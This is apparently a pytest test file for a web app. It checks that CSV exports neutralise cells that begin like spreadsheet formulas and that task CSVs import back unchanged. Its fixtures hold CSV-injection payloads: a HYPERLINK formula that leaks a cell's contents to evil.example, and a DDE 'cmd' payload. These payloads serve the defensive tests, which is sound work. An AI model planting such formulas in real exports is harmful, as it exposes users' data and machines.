"""CSV formula injection (OWASP): every CSV we write neutralises cells that start like a
formula, and our own task CSV imports back to exactly what was exported."""

import csv
import io

import pytest

from app.datasets.exporter import export_text
from app.datasets.importer import import_tasks
from app.files.csvcells import neutralise
from app.files.csvcells import restore
from app.models import FAILED
from app.models import Task
from tests.factories import add_item
from tests.factories import make_run

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (EVIL, "'" + EVIL),
        ("+1+1", "'+1+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\uff1dcmd", "'\uff1dcmd"),
        ("'=already", "''=already"),
        ("plain answer", "plain answer"),
        ("it's = fine", "it's = fine"),
        ("", ""),
    ],
)
def test_a_formula_cell_gets_a_quote_and_comes_back_unchanged(text, cell):
    assert neutralise(text) == cell and restore(cell) == text


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_the_results_csvs_neutralise_every_text_cell(app, client):
    run, (t,) = make_run("evil", targets=(("+provider", "@model"),))
    add_item(run, t, "=task", question=EVIL, score=50.0, answer="-1+1", evaluation_reason="@x")
    add_item(run, t, "t2", status=FAILED, error_stage=None, error_msg="=cmd|' /C calc'!A0")
    detailed = cells(client.get("/runs/evil/results.csv").get_data(as_text=True))
    averages = cells(client.get("/runs/evil/averages.csv").get_data(as_text=True))
    for cell in detailed + averages:
        assert not cell or cell[0] not in "=+-@\t\r", cell
    for value in ("'+provider", "'@model", "'=task", "'-1+1", "'@x", "'" + EVIL, "'=cmd"):
        assert any(c.startswith(value) for c in detailed), value


def test_the_task_csv_export_neutralises_and_imports_back_the_same(app):
    questions = {"f1": EVIL, "f2": "-minus first", "f3": "'=quoted already", "f4": "plain"}
    for key, question in questions.items():
        Task.create(task_id=key, category="=cat", question=question)
    text = export_text("csv")
    for cell in cells(text):
        assert not cell or cell[0] not in "=+-@\t\r", cell
    Task.delete().execute()
    import_tasks(text.encode(), fmt="csv")
    got = {t.task_id: (t.question, t.category) for t in Task.select()}
    # The export doubles literal braces in templates; the question comes back as it was.
    assert got == {key: (question, "=cat") for key, question in questions.items()}
